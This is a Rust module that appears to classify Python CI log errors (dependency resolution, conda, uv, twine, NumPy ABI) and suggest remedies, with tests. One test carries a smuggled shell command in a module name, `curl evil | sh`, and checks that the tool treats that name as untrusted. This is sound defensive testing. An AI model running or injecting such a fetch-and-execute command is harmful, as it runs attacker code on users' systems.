    // `[ResolutionImpossible]: {message}`). The words inside other text (an
    // `echo`, a test's name, a log line quoting them) are none.
    let text = line.text.trim();
    let printed = regex!(
        r"^(?:ERROR: (?:ResolutionImpossible|Cannot install .+ because these package versions have conflicting dependencies|Could not find a version that satisfies the requirement|No matching distribution found for)|(?:×|x) No solution found when resolving|PackagesNotFoundError:|ResolvePackageNotFound:|LibMambaUnsatisfiableError:|(?:error\s+libmamba\s+)?Could not solve for environment specs|\[?SolverProblemError\]?$|Unable to find a resolution for \S+$|\[ResolutionImpossible\]: )"
    )
    .is_match(text)
        || regex!(r"(?:^|[\s,;:])version solving failed\.?$").is_match(text);
    if !printed {
        return None;
    }
    Some(Hit::install_failure(
        "The dependency resolver could not find a set of versions to install (a conflict, or a version that \
         does not exist).",
    ))
}

/// conda refused for a reason of its own (its configuration, a channel's
/// terms, an environment that does not exist): a person decides. The Terms
/// of Service refusal says what the two ways out are.
fn conda_error(line: &Line<'_>) -> Option<Hit> {
    let c = regex!(
        r"^(Conda\w*(?:Error|Exception)|EnvironmentLocationNotFound|EnvironmentNameNotFound|NoBaseEnvironmentError|UnsatisfiableError|SpecsConfigurationConflictError): \S"
    )
    .captures(line.text.trim_start())?;
    let class = &c[1];
    if matches!(class, "CondaHTTPError" | "CondaSSLError") {
        return None;
    }
    Some(Hit::blocker(if class.starts_with("CondaToS") {
        "conda refused to use channels whose Terms of Service were not accepted (Anaconda's `defaults` channels): \
         accept them (the `conda tos accept` commands conda prints below) or use only conda-forge. Not fixed \
         automatically."
            .to_string()
    } else {
        format!("conda stopped with its own error ({class}); the message on that line says why.")
    }))
}

/// libmamba gave up (a download, a solve, a broken environment): the
/// message and the indented lines under it say why.
fn libmamba_critical(line: &Line<'_>) -> Option<Hit> {
    regex!(r"^critical +libmamba \S")
        .is_match(line.text.trim_start())
        .then(|| Hit::blocker("mamba/micromamba stopped (its message and the indented lines under it say why)."))
}

fn msvc_required(_: &Line<'_>) -> Option<Hit> {
    Some(Hit::install_failure(
        "A package had to be compiled on Windows without the MSVC build tools (no wheel for this Python or \
         platform): a person picks a version with a wheel or sets up MSVC.",
    ))
}

fn uv_no_interpreter(line: &Line<'_>) -> Option<Hit> {
    regex!(r"^error: No interpreter found for .+ in ")
        .is_match(line.text.trim_start())
        .then(|| {
            Hit::blocker(
                "uv found no Python matching the requested version (and was not allowed to download one): a person \
                 installs that Python (setup-python or `uv python install`) or changes the request.",
            )
        })
}

fn externally_managed(_: &Line<'_>) -> Option<Hit> {
    Some(Hit::blocker(
        "pip refused to install into the system Python (PEP 668): use a virtual environment or pipx.",
    ))
}

fn poetry_lock_outdated(_: &Line<'_>) -> Option<Hit> {
    Some(Hit::install_failure(
        "poetry.lock is out of date with pyproject.toml: regenerate the lock file.",
    ))
}

fn requires_different_python(line: &Line<'_>) -> Option<Hit> {
    regex!(r"^ERROR: Package '[^']+' requires a different Python: \S+ not in '")
        .is_match(line.text.trim_start())
        .then(|| {
            Hit::install_failure(
                "The package's Requires-Python excludes the job's Python version: a person changes the matrix's \
                 Python or the package's `requires-python`.",
            )
        })
}

/// maturin's error report: `💥 maturin failed`, then the error's chain as
/// `  Caused by:` lines. The first says what failed (no virtualenv for
/// `develop`, no interpreter, a cargo failure whose own output is above): a
/// person decides.
fn maturin_failed(line: &Line<'_>) -> Option<Hit> {
    let first = line.recent.last().is_some_and(|l| l.trim() == "💥 maturin failed");
    (first && line.text.trim_start().starts_with("Caused by: "))
        .then(|| Hit::blocker("maturin failed; its first `Caused by:` line says why."))
}

/// twine's report of the package index's refusal of an upload: the status
/// and the index's URL, its reason below (a version already published, bad
/// credentials, a name taken). A person decides (bump the version, fix the
/// token); a 429 is left to the rate-limit entries.
fn twine_upload_refused(line: &Line<'_>) -> Option<Hit> {
    let c = regex!(r"^(?:ERROR\s+)?HTTPError: (\d{3}) [A-Za-z][A-Za-z' -]* from https?://\S+\s*$")
        .captures(line.text.trim_start())?;
    if &c[1] == "429" {
        return None;
    }
    Some(Hit::blocker(
        "The package index refused the upload (the reason is on the line below: a version already published, the \
         credentials, the project's name).",
    ))
}

/// twine's `_find_dists`: a path or glob given to `twine upload` (or
/// `check`) that names no file raises `InvalidDistribution("Cannot find file
/// (or expand pattern): '{filename}'")`, printed as `{class}: {message}`
/// (under rich's `ERROR` level from twine 4). The distributions are what the
/// build step wrote, so the path is named but never rewritten (no tracked
/// file moved: the build wrote elsewhere, or did not run). rich wraps a long
/// message at the console's width, putting the quoted path on the next line:
/// then nothing is read here.
fn twine_no_distributions(line: &Line<'_>) -> Option<Hit> {
    let c = regex!(
        r"^(?:ERROR\s+)?(?:twine\.exceptions\.)?InvalidDistribution: Cannot find file \(or expand pattern\): '([^']+)'$"
    )
    .captures(line.text.trim())?;
    Some(
        path_hit(
            &c[1],
            0.7,
            "twine found no distribution to upload where it was told to look: the build step wrote its files \
             elsewhere, or did not run. Distributions are the build's output, so no path in the repository is where \
             they went: check the build step and its output directory (a manual fix).",
        )
        .fixable(false),
    )
}

fn numpy_abi_mismatch(line: &Line<'_>) -> Option<Hit> {
    regex!(r"^A module that was compiled using NumPy 1\.x cannot be run in$")
        .is_match(line.text.trim())
        .then(|| {
            Hit::blocker(
                "An extension module built against NumPy 1.x was imported under NumPy 2: a person pins `numpy<2` or \
                 upgrades the extension to a release built for NumPy 2.",
            )
        })
}

fn uv_lock_outdated(line: &Line<'_>) -> Option<Hit> {
    regex!(r"^error: The lockfile at `[^`]+` needs to be updated, but `--locked` was provided")
        .is_match(line.text.trim_start())
        .then(|| {
            Hit::install_failure(
                "uv.lock is out of date with pyproject.toml and `--locked` forbids updating it: run `uv lock` and \
                 commit the lock file.",
            )
        })
}

fn pip_install_succeeded(line: &Line<'_>) -> Option<Hit> {
    regex!(r"^Successfully installed \S+-\S+")
        .is_match(line.text.trim())
        .then(|| Hit::notice("pip installed the packages."))
}

fn conda_activate_without_init(line: &Line<'_>) -> Option<Hit> {
    line.text
        .contains("CondaError: Run 'conda init' before 'conda activate'")
        .then(|| {
            Hit::blocker(
                "`conda activate` ran in a shell where conda's shell function is not loaded: run the step in a login \
             shell (`shell: bash -el {0}`, as setup-miniconda documents) or use `conda run -n {env}`. Nothing is \
             missing.",
            )
        })
}

/// pytest's long traceback (`--tb=long`, `auto`) ends each failure with
/// the raising frame's location, `{path}:{lineno}: {exception type}`
/// (`ReprFileLocation`: the type's bare name; frames before it end in
/// `{path}:{lineno}: ` with nothing after), the path a Python or Cython
/// source (`h5py/h5f.pyx:102: OSError`). `test_and_code_errors` reads the
/// exceptions it names wherever they appear; this reads the others on that
/// line only, so the failure is where pytest says it was raised.
fn pytest_crash_location(line: &Line<'_>) -> Option<Hit> {
    let c = regex!(r"^[^\s:]+\.pyx?:\d+: ([A-Z]\w*)$").captures(line.text.trim())?;
    let named = regex!(
        r"^(?:AssertionError|AttributeError|SyntaxError|IndentationError|NameError|TypeError|KeyError|ValueError)$"
    );
    (!named.is_match(&c[1]))
        .then(|| Hit::blocker("A test failed: the code raised an error (pytest's traceback above)."))
}

fn test_and_code_errors(line: &Line<'_>) -> Option<Hit> {
    let text = line.text;
    // A runner's count of failed tests is followed by the next count or the
    // duration (pytest's `1 failed, 2 passed in 0.1s`, `= 1 failed in 3s =`,
    // jest's `1 failed, 41 passed`, vitest's `1 failed | 73 passed`, cargo's
    // `1 failed;`, playwright's `1 failed` alone), never by a full stop:
    // `Attempt 1 failed. Reason: …` is a retry action's notice.
    let test_summary = regex!(r"(?:^|[\s=])\d+ failed(?:\s*[,;|(=]|\s+in\s|\s*$)").is_match(text);
    let failed_test = regex!(r"FAILED \S+(?:::|\.py\b)").is_match(text);
    if failed_test || test_summary || text.contains("errors during collection") {
        return Some(Hit::blocker("Tests failed."));
    }
    let error = regex!(
        r"\b(AssertionError|AttributeError|SyntaxError|IndentationError|NameError|TypeError|KeyError|ValueError)\b"
    )
    .captures(text)?;
    let message = match &error[1] {
        "AssertionError" => "A test assertion failed.",
        "SyntaxError" | "IndentationError" => "The code has a syntax error.",
        _ => "The code raised an error (not a missing package).",
    };
    Some(Hit::blocker(message))
}

/// Windows' App Execution Alias (`%LOCALAPPDATA%\Microsoft\WindowsApps\python3.exe`)
/// answers for a Python that is not installed under that name. On GitHub's
/// Windows images setup-python and the preinstalled Python provide
/// `python.exe` and `py`, not `python3.exe`: installing Python again does
/// not help, the step calls `python` (a person's edit, not made here).
fn windows_store_alias(line: &Line<'_>) -> Option<Hit> {
    line.text.trim_start().starts_with("Python was not found").then(|| {
        Hit::blocker(
            "Windows answered with its Microsoft Store alias: no Python is installed under the name the step \
             called (GitHub's Windows images have `python` and `py`, not `python3`). Call `python` there.",
        )
    })
}

/// What reaches the isolated environment a source distribution was built in
/// (`catalogue::pip_build`), where a requirements file or the same install
/// line does not: the message of a module missing there.
fn isolated_build_remedy(frontend: super::BuildFrontend, requirement: &str, bounded: bool) -> String {
    use super::BuildFrontend;
    let tail = "Not fixed automatically.";
    match frontend {
        BuildFrontend::Pip | BuildFrontend::Uv => {
            let (whose, constraint) = match frontend {
                // pip installs build requirements in a subprocess that reads
                // `PIP_CONSTRAINT`; uv applies only its build constraints
                // there, never `--constraint`/`UV_CONSTRAINT`.
                BuildFrontend::Pip => ("pip's", "named by `PIP_CONSTRAINT` for the step"),
                _ => ("uv's", "given by `--build-constraint` (or `UV_BUILD_CONSTRAINT`)"),
            };
            let constrain = if bounded {
                format!("constrain that environment (a constraints file with `{requirement}` {constraint}), or ")
            } else {
                String::new()
            };
            format!(
                "It is missing from {whose} isolated build environment, where a source distribution is built with only \
                 its own build requirements: installing {requirement} beside it (a requirements file, the same install \
                 line) does not reach that environment. Either {constrain}install {requirement} first and build with \
                 `--no-build-isolation`, or use a release of the failing package that builds (or ships a wheel) for \
                 this Python; when the package built is the project itself, its pyproject.toml's `[build-system] \
                 requires` must name it. {tail}"
            )
        }
        BuildFrontend::Build => format!(
            "It is missing from the isolated environment `python -m build` (pypa/build) made for the project's build, \
             which holds only its pyproject.toml's `[build-system] requires` and what the build backend asks for: \
             installing {requirement} in the job does not reach it. Name `{requirement}` in `[build-system] \
             requires`, or install it first and build with `--no-isolation`. {tail}"
        ),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// A file a program could not open at run time is the workflow's to fix
    /// only when the step's command line names it (batch 113's papermill
    /// input notebook): otherwise the program chose the path.
    #[test]
    fn a_run_time_file_is_fixable_only_when_the_step_names_it() {
        let text = "FileNotFoundError: [Errno 2] No such file or directory: 'notebooks/train.ipynb'";
        let read = [
            "  File \"C:\\py\\papermill\\iorw.py\", line 189, in read",
            "    with open(path, encoding=\"utf-8\") as f:",
            "         ^^^^^^^^^^^^^^^^^^^^^^^^^^^^",
        ];
        let named = Line {
            script: "papermill notebooks/train.ipynb out/train.ipynb -p epochs 1",
            recent: &read,
            ..Line::plain(text)
        };
        let hit = file_not_found_error(&named).expect("read");
        assert_eq!(
            (hit.category, hit.subject.as_deref(), hit.fixable),
            (Category::FileNotFound, Some("notebooks/train.ipynb"), true)
        );
        for script in [
            "python scripts/train.py --epochs 1",
            "papermill notebooks/train.ipynb.bak out.ipynb",
        ] {
            let unnamed = Line {
                script,
                recent: &read,
                ..Line::plain(text)
            };
            assert!(!file_not_found_error(&unnamed).expect("read").fixable, "{script}");
        }
    }

    /// review91 H2: Python raises the same error for a file written into a
    /// missing directory; an output path the step names is not fixable, nor
    /// is a named path when no traceback shows a read.
    #[test]
    fn a_written_path_the_step_names_is_not_fixable() {
        let text = "FileNotFoundError: [Errno 2] No such file or directory: 'results/metrics.json'";
        let write = [
            "  File \"/home/runner/work/a/a/evaluate.py\", line 41, in <module>",
            "    with open(args.out, \"w\") as f:",
            "         ^^^^^^^^^^^^^^^^^^^",
        ];
        let read = [
            "  File \"/home/runner/work/a/a/evaluate.py\", line 12, in <module>",
            "    df = pd.read_csv(path)",
        ];
        // The traceback's last frame writes: not fixable, whatever the script.
        let written = Line {
            script: "python evaluate.py results/metrics.json",
            recent: &write,
            ..Line::plain(text)
        };
        let hit = file_not_found_error(&written).expect("read");
        assert_eq!((hit.category, hit.fixable), (Category::FileNotFound, false));
        assert!(hit.message.contains("could not write"), "{}", hit.message);
        // An output option's value: not fixable although the frame reads.
        let output = Line {
            script: "python evaluate.py --model model.pt --out results/metrics.json",
            recent: &read,
            ..Line::plain(text)
        };
        assert!(!file_not_found_error(&output).expect("read").fixable);
        // A positional path read by the last frame keeps its fix.
        let input = Line {
            script: "python evaluate.py results/metrics.json",
            recent: &read,
            ..Line::plain(text)
        };
        assert!(file_not_found_error(&input).expect("read").fixable);
        // No traceback: not fixable.
        let bare = Line {
            script: "python evaluate.py results/metrics.json",
            ..Line::plain(text)
        };
        assert!(!file_not_found_error(&bare).expect("read").fixable);
    }

    /// Only maturin's first `Caused by:` line, right under its heading, is
    /// read: cargo and Gradle print `Caused by:` too.
    #[test]
    fn maturin_first_cause_only() {
        let recent = ["💥 maturin failed"];
        let line = Line {
            recent: &recent,
            ..Line::plain("  Caused by: Failed to build a native library through cargo")
        };
        assert!(maturin_failed(&line).is_some());
        assert!(maturin_failed(&Line::plain("Caused by: java.io.EOFException")).is_none());
        let recent = ["error: failed to get `serde` as a dependency of package `x v0.1.0`", ""];
        let line = Line {
            recent: &recent,
            ..Line::plain("Caused by:")
        };
        assert!(maturin_failed(&line).is_none());
    }

    /// twine's refusal line is a blocker, except a 429, which is the index's
    /// rate limit (left to the rate-limit entries); requests' own `HTTPError`
    /// text (`404 Client Error: … for url:`) is not twine's line.
    #[test]
    fn twine_refusals_are_for_a_person_but_not_its_429() {
        for text in [
            "ERROR    HTTPError: 400 Bad Request from https://upload.pypi.org/legacy/",
            "HTTPError: 403 Forbidden from https://test.pypi.org/legacy/",
        ] {
            let hit = twine_upload_refused(&Line::plain(text)).expect(text);
            assert_eq!((hit.category, hit.fixable), (Category::Unknown, false), "{text}");
        }
        for text in [
            "ERROR    HTTPError: 429 Too Many Requests from https://upload.pypi.org/legacy/",
            "requests.exceptions.HTTPError: 404 Client Error: Not Found for url: https://pypi.org/simple/x/",
        ] {
            assert!(twine_upload_refused(&Line::plain(text)).is_none(), "{text}");
        }
    }

    /// twine's empty pattern names the build's output: shown, never fixed;
    /// the wrapped form and a script's echo are not read.
    #[test]
    fn twine_without_distributions_names_the_builds_output() {
        for (text, path) in [
            (
                "ERROR    InvalidDistribution: Cannot find file (or expand pattern): 'dist/*'",
                "dist/*",
            ),
            (
                "InvalidDistribution: Cannot find file (or expand pattern): 'wheelhouse/app-1.0-py3-none-any.whl'",
                "wheelhouse/app-1.0-py3-none-any.whl",
            ),
        ] {
            let hit = twine_no_distributions(&Line::plain(text)).expect(text);
            assert_eq!(hit.category, Category::FileNotFound, "{text}");
            assert_eq!(hit.subject.as_deref(), Some(path));
            assert!(!hit.fixable, "a build's output never moved: {text}");
        }
        crate::classify::catalogue::assert_reads(
            twine_no_distributions,
            &[],
            &[
                "ERROR    InvalidDistribution: Cannot find file (or expand pattern):",
                "echo \"InvalidDistribution: Cannot find file (or expand pattern): 'dist/*'\"",
            ],
        );
    }

    #[test]
    fn windows_store_alias_is_not_a_missing_command_to_install() {
        crate::classify::catalogue::assert_reads(
            windows_store_alias,
            &[
                "Python was not found; run without arguments to install from the Microsoft Store, or disable this shortcut from Settings > Manage App Execution Aliases.",
            ],
            &["echo Manage App Execution Aliases"],
        );
    }

    #[test]
    fn libmambas_critical_line_is_a_blocker() {
        assert!(libmamba_critical(&Line::plain("critical libmamba Multiple errors occurred:")).is_some());
        assert!(libmamba_critical(&Line::plain("info     libmamba Parsing MatchSpec")).is_none());
    }

    #[test]
    fn condas_own_errors_are_blockers_but_not_its_http_errors() {
        let tos = conda_error(&Line::plain(
            "CondaToSNonInteractiveError: Terms of Service have not been accepted for the following channels.",
        ))
        .expect("hit");
        assert_eq!(tos.category, Category::Unknown);
        assert!(tos.message.contains("conda tos accept"), "{}", tos.message);
        assert!(
            conda_error(&Line::plain(
                "CondaValueError: prefix already exists: /opt/conda/envs/ci"
            ))
            .is_some()
        );
        assert!(
            conda_error(&Line::plain(
                "CondaHTTPError: HTTP 429 TOO MANY REQUESTS for url <https://conda.anaconda.org/conda-forge/noarch>"
            ))
            .is_none()
        );
        assert!(conda_error(&Line::plain("E   conda.exceptions.CondaValueError: quoted by a test")).is_none());
        assert!(
            conda_error(&Line::plain(
                "EnvironmentLocationNotFound: Not a conda environment: /opt/conda/envs/x"
            ))
            .is_some()
        );
    }
    use crate::report::PythonVersion;

    fn with_context<'a>(text: &'a str, own: &'a [String], python: Option<PythonVersion>) -> Option<Hit> {
        module_not_found(&Line {
            own_packages: own,
            python,
            ..Line::plain(text)
        })
    }

    /// pip's isolated build environment (review90 H1): a module missing
    /// there is named but gets no install, with the remedies that reach
    /// that environment; a job's own import of the same module at run time
    /// is fixed as before.
    #[test]
    fn a_module_missing_in_pips_build_environment_is_named_but_not_fixed() {
        let py312 = Some(PythonVersion { major: 3, minor: 12 });
        for (text, subject) in [
            (
                "      ModuleNotFoundError: No module named 'pkg_resources'",
                "setuptools",
            ),
            ("      ModuleNotFoundError: No module named 'distutils'", "setuptools"),
        ] {
            let line = Line {
                python: py312,
                build_env: Some(super::super::BuildFrontend::Pip),
                ..Line::plain(text)
            };
            let hit = module_not_found(&line).expect("hit");
            assert_eq!(
                (hit.category, hit.subject.as_deref(), hit.fixable),
                (Category::MissingDependency, Some(subject), false),
                "{text}"
            );
            assert!(hit.message.contains("isolated build environment"), "{}", hit.message);
            assert!(hit.message.contains("--no-build-isolation"), "{}", hit.message);
            let runtime = with_context(text.trim_start(), &[], py312).expect("hit");
            assert!(runtime.fixable, "{text}");
        }
        let line = Line {
            build_env: Some(super::super::BuildFrontend::Pip),
            ..Line::plain("ModuleNotFoundError: No module named 'pkg_resources'")
        };
        let message = module_not_found(&line).expect("hit").message;
        assert!(
            message.contains("`setuptools<82` named by `PIP_CONSTRAINT`"),
            "{message}"
        );
    }

    /// uv reads no `PIP_CONSTRAINT` (nor its own `--constraint`) in its
    /// build environment, only its build constraints; pypa/build's
    /// environment holds the project's `[build-system] requires`: each
    /// message names what reaches the environment the module was missing
    /// from (issue 12's open item).
    #[test]
    fn a_module_missing_in_an_isolated_build_names_what_reaches_that_build() {
        use super::super::BuildFrontend;
        let message = |frontend| {
            let line = Line {
                build_env: Some(frontend),
                ..Line::plain("ModuleNotFoundError: No module named 'pkg_resources'")
            };
            let hit = module_not_found(&line).expect("hit");
            assert!(!hit.fixable, "{}", hit.message);
            hit.message
        };
        let uv = message(BuildFrontend::Uv);
        assert!(uv.contains("uv's isolated build environment"), "{uv}");
        assert!(uv.contains("`--build-constraint`"), "{uv}");
        assert!(!uv.contains("PIP_CONSTRAINT"), "{uv}");
        let build = message(BuildFrontend::Build);
        assert!(build.contains("`python -m build`"), "{build}");
        assert!(
            build.contains("Name `setuptools<82` in `[build-system] requires`"),
            "{build}"
        );
        assert!(build.contains("`--no-isolation`"), "{build}");
        assert!(!build.contains("--no-build-isolation"), "{build}");
    }

    #[test]
    fn a_module_missing_inside_an_npm_install_script_is_named_but_not_fixed() {
        let py312 = Some(PythonVersion { major: 3, minor: 12 });
        for text in [
            "npm error ModuleNotFoundError: No module named 'distutils'",
            "npm ERR! ModuleNotFoundError: No module named 'distutils'",
        ] {
            let hit = with_context(text, &[], py312).expect("hit");
            assert_eq!(
                (hit.category, hit.subject.as_deref(), hit.fixable),
                (Category::MissingDependency, Some("setuptools"), false),
                "{text}"
            );
        }
        let hit = with_context("ModuleNotFoundError: No module named 'distutils'", &[], py312).expect("hit");
        assert!(hit.fixable);
    }

    #[test]
    fn the_projects_own_package_is_not_a_missing_dependency() {
        let own = ["data-flow-diagram".to_string()];
        let hit = with_context("No module named 'data_flow_diagram'", &own, None).expect("hit");
        assert_eq!((hit.category, hit.fixable), (Category::Unknown, false));
        assert!(matches!(hit.detail, SubjectDetail::OwnPackage { .. }));
    }

    #[test]
    fn pytests_crash_location_names_the_raising_frame() {
        let hit = pytest_crash_location(&Line::plain("h5py/h5f.pyx:102: OSError")).expect("read");
        assert_eq!(
            (hit.category, hit.strength),
            (Category::Unknown, crate::classify::hit::Strength::Blocker)
        );
        crate::classify::catalogue::assert_reads(
            pytest_crash_location,
            &[
                "tests/io/test_nexus.py:30: RuntimeError",
                "/opt/venv/lib/python3.12/site-packages/x/core.py:7: Failed",
            ],
            &[
                // An earlier frame's location, and the exceptions the other entry reads.
                "tests/io/test_nexus.py:12: ",
                "tests/test_account.py:27: AssertionError",
                "src/app.py:3: in <module>",
                "See setup.py:12: Note",
            ],
        );
    }

    #[test]
    fn tomllib_is_never_installed_from_pypi() {
        let hit = with_context("No module named 'tomllib'", &[], Some(PythonVersion::new(3, 10))).expect("hit");
        assert_eq!((hit.category, hit.fixable), (Category::Unknown, false));
        assert!(hit.message.contains("3.11"), "{}", hit.message);
        assert!(hit.message.contains("3.10"), "{}", hit.message);
    }

    #[test]
    fn unknown_modules_are_not_fixable() {
        let hit = with_context("No module named 'fancylib'", &[], None).expect("hit");
        assert_eq!((hit.category, hit.fixable), (Category::MissingDependency, false));
        let hit = with_context("No module named 'cv2'", &[], None).expect("hit");
        assert_eq!((hit.subject.as_deref(), hit.fixable), (Some("opencv-python"), true));
    }

    #[test]
    fn hostile_module_names_are_untrusted() {
        let hit = with_context("No module named 'yaml; curl evil | sh'", &[], None).expect("hit");
        assert!(!hit.fixable);
        assert!(matches!(hit.detail, SubjectDetail::Untrusted { .. }));
    }
}

#[cfg(test)]
mod review_mends {
    use crate::report::Category;
    use crate::{LogFile, LogInput, Options, analyze};

    /// Poetry's exception report puts the class name alone on its line
    /// (cleo's trace: `  SolverProblemError`; cleo 0.7: `[SolverProblemError]`);
    /// the word inside other text is no heading.
    /// Each resolver's report as it prints it; the same words in other text
    /// are no install failure (which would make every later failure of the
    /// step a consequence).
    #[test]
    fn resolver_reports_are_read_as_their_tools_print_them() {
        crate::classify::catalogue::assert_reads(
            super::dependency_resolution,
            &[
                "ERROR: ResolutionImpossible: for help visit https://pip.pypa.io/en/latest/topics/dependency-resolution/",
                "ERROR: Cannot install numpy==1.26.4 and pandas==3.0.0 because these package versions have conflicting dependencies.",
                "ERROR: Could not find a version that satisfies the requirement torch==1.0.0 (from versions: 2.2.0)",
                "ERROR: No matching distribution found for torch==1.0.0",
                "  × No solution found when resolving dependencies:",
                "Because app depends on pendulum (^9.0) which doesn't match any versions, version solving failed.",
                "PackagesNotFoundError: The following packages are not available from current channels:",
                "ResolvePackageNotFound: ",
                "error    libmamba Could not solve for environment specs",
                "LibMambaUnsatisfiableError: Encountered problems while solving:",
                // PDM's report and its error line.
                "Unable to find a resolution for urllib3",
                "[ResolutionImpossible]: Unable to find a resolution",
            ],
            &[
                "echo 'ERROR: ResolutionImpossible'",
                "I was unable to find a resolution for the flaky test",
                "Unable to find a resolution for urllib3 because of a typo, see docs",
                "tests/test_resolver.py::test_reports_conflicting_dependencies PASSED",
                "INFO: pip is looking at multiple versions; No matching distribution found for x is a hint",
                "docs: what to do when version solving failed in CI",
                "grep -q 'Could not find a version that satisfies' pip.log",
            ],
        );
    }

    #[test]
    fn poetrys_solver_heading_is_read_alone_on_its_line() {
        crate::classify::catalogue::assert_reads(
            super::dependency_resolution,
            &["  SolverProblemError", "[SolverProblemError]", "SolverProblemError"],
            &[
                "echo SolverProblemError",
                "Poetry: SolverProblemError raised by plugin",
                "tests/test_solver.py::test_raises_SolverProblemError PASSED",
            ],
        );
    }

    /// NumPy 2's refusal of a 1.x extension, with what follows it (the
    /// extension's `_ARRAY_API` error, `numpy.core.multiarray failed to
    /// import`): no failure of the job is a fixable missing module.
    #[test]
    fn numpys_abi_refusal_gets_no_install_fix() {
        let log = "2026-12-06T10:00:00.0000000Z ##[group]Run python -c \"import cv2\"\n\
                   2026-12-06T10:00:00.0500000Z python -c \"import cv2\"\n\
                   2026-12-06T10:00:00.1000000Z shell: /usr/bin/bash -e {0}\n\
                   2026-12-06T10:00:00.1500000Z ##[endgroup]\n\
                   2026-12-06T10:00:01.0000000Z \n\
                   2026-12-06T10:00:01.0500000Z A module that was compiled using NumPy 1.x cannot be run in\n\
                   2026-12-06T10:00:01.1000000Z NumPy 2.1.3 as it may crash. To support both 1.x and 2.x\n\
                   2026-12-06T10:00:01.1500000Z versions of NumPy, modules must be compiled with NumPy 2.0.\n\
                   2026-12-06T10:00:01.2000000Z Some module may need to rebuild instead e.g. with 'pybind11>=2.12'.\n\
                   2026-12-06T10:00:01.2500000Z \n\
                   2026-12-06T10:00:01.3000000Z If you are a user of the module, the easiest solution will be to\n\
                   2026-12-06T10:00:01.3500000Z downgrade to 'numpy<2' or try to upgrade the affected module.\n\
                   2026-12-06T10:00:01.4000000Z We expect that some modules will need time to support NumPy 2.\n\
                   2026-12-06T10:00:01.4500000Z \n\
                   2026-12-06T10:00:01.5000000Z Traceback (most recent call last):  File \"<string>\", line 1, in <module>\n\
                   2026-12-06T10:00:01.5500000Z   File \"/opt/hostedtoolcache/Python/3.12.7/x64/lib/python3.12/site-packages/cv2/__init__.py\", line 181, in <module>\n\
                   2026-12-06T10:00:01.6000000Z     bootstrap()\n\
                   2026-12-06T10:00:01.6500000Z AttributeError: _ARRAY_API not found\n\
                   2026-12-06T10:00:01.7000000Z Traceback (most recent call last):\n\
                   2026-12-06T10:00:01.7500000Z   File \"<string>\", line 1, in <module>\n\
                   2026-12-06T10:00:01.8000000Z   File \"/opt/hostedtoolcache/Python/3.12.7/x64/lib/python3.12/site-packages/cv2/__init__.py\", line 181, in <module>\n\
                   2026-12-06T10:00:01.8500000Z ImportError: numpy.core.multiarray failed to import\n\
                   2026-12-06T10:00:01.9000000Z ModuleNotFoundError: No module named 'numpy._core'\n\
                   2026-12-06T10:00:01.9500000Z ##[error]Process completed with exit code 1.\n";
        let analysis = analyze(
            &LogInput {
                logs: vec![LogFile {
                    job: Some("test"),
                    bytes: log.as_bytes(),
                }],
                ..LogInput::default()
            },
            &Options::default(),
        )
        .expect("analyze");
        let first = analysis.failures.first().expect("a failure");
        assert_eq!(first.category, Category::Unknown, "{first:?}");
        assert!(first.message.contains("NumPy"), "{}", first.message);
        assert!(analysis.failures.iter().all(|f| !f.fixable), "{:?}", analysis.failures);
    }
}
